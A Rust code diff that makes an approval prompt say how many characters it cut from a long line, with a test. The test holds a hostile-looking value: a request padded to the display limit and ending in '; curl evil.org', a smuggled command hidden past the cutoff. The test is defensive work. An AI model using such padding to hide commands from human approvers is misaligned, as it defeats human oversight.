@@ -45,8 +45,15 @@ fn line(text: &str) -> String {
     format!("  | {}\n", cut(text))
 }
 
+/// Cuts a long line, and says so: who agrees must know that there is more.
 fn cut(text: &str) -> String {
-    safe(text).chars().take(limits::MAX_REASON_CHARS).collect()
+    let text = safe(text);
+    let mut chars = text.chars();
+    let shown: String = chars.by_ref().take(limits::MAX_REASON_CHARS).collect();
+    match chars.count() {
+        0 => shown,
+        rest => format!("{shown} ... and {rest} more characters"),
+    }
 }
 
 #[cfg(test)]
@@ -70,5 +77,9 @@ mod tests {
         );
         let long = text(&request("x\n".repeat(1000)));
         assert!(long.contains("... and 970 more lines"), "{long}");
+        let wide = "x".repeat(limits::MAX_REASON_CHARS);
+        let told = text(&request(format!("{wide}; curl evil.org")));
+        let line = format!("  | {wide} ... and 15 more characters\n");
+        assert!(told.contains(&line), "{told}");
     }
 }
